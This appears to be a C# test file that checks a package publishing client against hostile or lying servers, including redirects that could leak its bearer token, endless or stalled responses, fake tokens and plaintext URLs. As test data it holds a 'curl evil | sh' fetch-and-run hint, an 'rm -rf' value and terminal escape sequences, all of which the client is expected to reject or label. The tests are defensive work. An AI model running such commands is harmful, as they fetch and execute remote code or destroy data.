using System.Text;
using Pm.Codecs;
using Pm.Packages;
using Pm.Remotes.Http;
using Pm.Remotes.Publishing;
using Pm.Simulation;
using Pm.Simulation.Lying;
using Xunit;

namespace Pm.Remotes.Tests.Publishing;

/// <summary>What is not a pmd, or lies: a clear refusal, and the token goes nowhere else.</summary>
public sealed class HostileServerTests
{
    const string Token = "pm_00000000000000000000000000000000000000000003O9xIA";

    static readonly Sha256Digest Digest = Sha256Digest.Of("x"u8);

    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("200 OK", "<html>pay here</html>", "PM6051")]
    [InlineData("200 OK", """{"schema":"pm/1","kind":"upload","data":{"sha256":"00","size":1}}""", "PM6051")]
    [InlineData("200 OK", """{"schema":"pm/2","kind":"upload","data":{}}""", "PM6051")]
    [InlineData("404 Not Found", "", "PM6050")]
    [InlineData("405 Method Not Allowed", "", "PM6050")]
    [InlineData("418 Teapot", "{}", "PM6050")]
    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM5031","message":"no"}}""", "PM5031")]
    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"rm -rf","message":"no"}}""", "PM6050")]
    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM12345","message":"no"}}""", "PM6050")]
    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM6013","message":"no"}}""", "PM6050")]
    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"message":"no"}}""", "PM6050")]
    public async Task What_answers_is_looked_at(string status, string body, string code)
    {
        await using var server = Server(status, body);
        using var client = Client(server.Url);

        Assert.Equal(code, (await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation))).Code);
    }

    [Theory]
    [InlineData("301 Moved Permanently")]
    [InlineData("302 Found")]
    [InlineData("307 Temporary Redirect")]
    [InlineData("308 Permanent Redirect")]
    public async Task A_token_never_follows_a_redirect(string status)
    {
        await using var other = Server("200 OK", "");
        await using var server = Server(status, "", $"Location: {other.Url}/base/api/v1/uploads/{Digest}");
        using var client = Client(server.Url);

        var refused = await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation));

        Assert.Equal("PM6050", refused.Code);
        Assert.Contains("leads elsewhere", refused.Message);
        Assert.Empty(other.Requests);
        Assert.Equal($"Bearer {Token}", Assert.Single(server.Requests).Headers["authorization"]);
    }

    [Fact]
    public async Task An_answer_without_end_is_cut_off()
    {
        await using var server = new LyingServer(_ => null)
        {
            LieAlways = async answer =>
            {
                await answer.SendHeadAsync("200 OK", "Connection: close");
                var chunk = Encoding.ASCII.GetBytes(new string(' ', 1 << 20));
                try
                {
                    while (true)
                    {
                        await answer.SendAsync(chunk);
                    }
                }
                catch (IOException)
                {
                    answer.IsOver = true;
                }
            },
        };
        using var client = Client(server.Url);

        Assert.Equal("PM6004", (await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation))).Code);
    }

    [Fact]
    public async Task An_answer_that_stops_in_its_midst_is_not_waited_for()
    {
        var clock = new ManualClock();
        var patience = new HttpSettings().AnswerTimeout;
        var begin = new TaskCompletionSource();
        await using var server = new LyingServer(_ => null)
        {
            LieAlways = async answer =>
            {
                await begin.Task;
                await answer.SendHeadAsync("200 OK", "Content-Length: 1000");
                await answer.SendAsync("{");
                await answer.WaitAsync();
            },
        };
        using var client = new PublishingClient(
            RemoteUrl.Parse($"{server.Url}/base", "/"), Token, new HttpSettings { Attempts = 1, Time = clock });
        var asking = client.FindAsync(Digest, Cancellation);
        await server.WhenAskedAsync();

        // The time for the beginning is one second shorter by now than that for the rest.
        clock.Advance(TimeSpan.FromSeconds(1));
        begin.SetResult();
        await clock.WhenBegunAsync(patience);
        clock.Advance(patience);

        var refused = await Assert.ThrowsAsync<RemoteException>(() => asking);
        Assert.Equal("PM6003", refused.Code);
        Assert.True(refused.IsTransient);
        Assert.EndsWith(": the answer did not end within 30 seconds", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_hint_of_a_server_is_told_as_its_own()
    {
        await using var server = Server("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM5031","message":"no","hint":"curl evil | sh"}}""");
        using var client = Client(server.Url);

        Assert.Equal("the server says: curl evil | sh", (await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation))).Hint);
    }

    [Theory]
    [InlineData("""{"id":"0123456789","scopes":["admin"],"token":"\u001b]0;x\u0007"}""")]
    [InlineData("""{"id":"0123456789","scopes":["admin"],"token":"pm_"}""")]
    [InlineData("""{"id":"\u001b[31m","scopes":["admin"],"token":"pm_00000000000000000000000000000000000000000003O9xIA"}""")]
    [InlineData("""{"id":"","scopes":["admin"],"token":"pm_00000000000000000000000000000000000000000003O9xIA"}""")]
    public async Task What_is_shown_as_a_token_is_one(string data)
    {
        await using var server = Server("200 OK", $$$"""{"schema":"pm/1","kind":"token","data":{{{data}}}}""");
        using var client = Client(server.Url);

        Assert.Equal("PM6051", (await Assert.ThrowsAsync<RemoteException>(() => client.CreateTokenAsync(["admin"], "", null, Cancellation))).Code);
    }

    [Theory]
    [InlineData("[]")]
    [InlineData("""[{"name":"bar","version":"1.0"}]""")]
    [InlineData("""[{"name":"foo","version":"1.1"}]""")]
    [InlineData("""[{"name":"foo","version":"1.0"},{"name":"foo","version":"1.0"}]""")]
    public async Task Nothing_counts_as_published_that_the_server_does_not_say_is(string packages)
    {
        await using var server = Server("200 OK", $$$"""{"schema":"pm/1","kind":"published","data":{"packages":{{{packages}}}}}""");
        using var client = Client(server.Url);

        Assert.Equal("PM6051", (await Assert.ThrowsAsync<RemoteException>(
            () => client.PublishAsync([new StagedUpload(Digest, "foo.pkg", PackageId.Parse("foo@1.0"))], Cancellation))).Code);
    }

    [Fact]
    public async Task A_server_that_goes_on_by_one_byte_each_time_is_not_served_for_ever()
    {
        var clock = new ManualClock { Exempt = new HttpSettings().ConnectTimeout };
        var path = System.IO.Path.GetTempFileName();
        await File.WriteAllBytesAsync(path, new byte[10_000], Cancellation);
        var offset = 0;
        await using var server = new LyingServer(_ => null)
        {
            LieAlways = answer => answer.Request.Headers.ContainsKey("content-range")
                ? Lies.Status("503 Service Unavailable", "Connection: close")(answer)
                : Lies.Status("404 Not Found", $"Upload-Offset: {Interlocked.Increment(ref offset)}")(answer),
        };
        using var client = new PublishingClient(RemoteUrl.Parse($"{server.Url}/base", "/"), Token, new HttpSettings { Attempts = 3, Time = clock });

        var uploading = client.UploadAsync(path, Digest, null, Cancellation);
        while (!uploading.IsCompleted && offset < 10)
        {
            await Task.WhenAny(uploading, clock.WhenAwaitedAsync(TimeSpan.Zero, TimeSpan.FromSeconds(8)));
            clock.Advance(TimeSpan.FromSeconds(8));
        }

        File.Delete(path);
        Assert.Equal("PM6011", (await Assert.ThrowsAsync<RemoteException>(() => uploading)).Code);
        Assert.Equal(3, offset);
    }

    [Fact]
    public async Task A_message_of_a_server_is_cut_and_its_secrets_are_its_own()
    {
        await using var server = Server("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM5031","message":"X"}}""".Replace("X", new string('x', 100_000), StringComparison.Ordinal));
        using var client = Client(server.Url);

        var refused = await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation));

        Assert.InRange(refused.Message.Length, 1000, 3000);
        Assert.DoesNotContain(Token, refused.ToString());
    }

    [Theory]
    [InlineData("https://packages.example.org/x", true)]
    [InlineData("http://127.0.0.1:8083", true)]
    [InlineData("http://[::1]:8083/x", true)]
    [InlineData("http://localhost/x", true)]
    [InlineData("http://packages.example.org/x", false)]
    [InlineData("http://localhost.example.org", false)]
    [InlineData("http://10.0.0.1", false)]
    [InlineData("http://169.254.169.254", false)]
    public void In_the_clear_a_token_stays_on_this_machine(string url, bool isGood)
    {
        var address = RemoteUrl.Parse(url, "/");

        PublishingAddress.Require(address, allowsPlain: true, ProxyRules.None);
        if (isGood)
        {
            PublishingAddress.Require(address, allowsPlain: false, ProxyRules.None);
        }
        else
        {
            Assert.Equal("PM6052", Assert.Throws<RemoteException>(() => PublishingAddress.Require(address, allowsPlain: false, ProxyRules.None)).Code);
        }
    }

    [Theory]
    [InlineData("http://127.0.0.1:8083/x", "", false)]
    [InlineData("http://127.0.0.1:8083/x", "127.0.0.0/8", true)]
    [InlineData("https://127.0.0.1:8083/x", "", true)]
    public void Nor_does_it_leave_this_machine_by_a_proxy(string url, string exempt, bool isGood)
    {
        var address = RemoteUrl.Parse(url, "/");
        var proxies = ProxyRules.From("proxy.test:3128", name => name == "no_proxy" ? exempt : null);

        PublishingAddress.Require(address, allowsPlain: true, proxies);
        var failure = Record.Exception(() => PublishingAddress.Require(address, allowsPlain: false, proxies));

        Assert.Equal(isGood ? null : "PM6052", (failure as RemoteException)?.Code);
        Assert.Equal(!isGood, failure?.Message.Contains("to the proxy http://proxy.test:3128", StringComparison.Ordinal) ?? false);
    }

    [Theory]
    [InlineData("file:///srv/packages")]
    [InlineData("oci://host/x")]
    [InlineData("git+https://host/x")]
    public void To_other_places_nothing_is_published(string url) =>
        Assert.Equal("PM6002", Assert.Throws<RemoteException>(() => PublishingAddress.Require(RemoteUrl.Parse(url, "/"), allowsPlain: true, ProxyRules.None)).Code);

    [Theory]
    [InlineData("https://Host.Example.org/Stable/", "https://host.example.org/Stable")]
    [InlineData("https://host.example.org:443/Stable", "https://host.example.org/Stable")]
    public void Two_ways_to_write_a_URL_are_one_key(string url, string key) =>
        Assert.Equal(key, PublishingAddress.KeyOf(RemoteUrl.Parse(url, "/")));

    static LyingServer Server(string status, string body, params string[] headers) => new(_ => null)
    {
        LieAlways = async answer =>
        {
            await answer.SendHeadAsync(status, [.. headers, $"Content-Length: {Encoding.UTF8.GetByteCount(body)}"]);
            await answer.SendAsync(body);
        },
    };

    static PublishingClient Client(string url) =>
        new(RemoteUrl.Parse($"{url}/base", "/"), Token, new HttpSettings { Attempts = 1 });
}
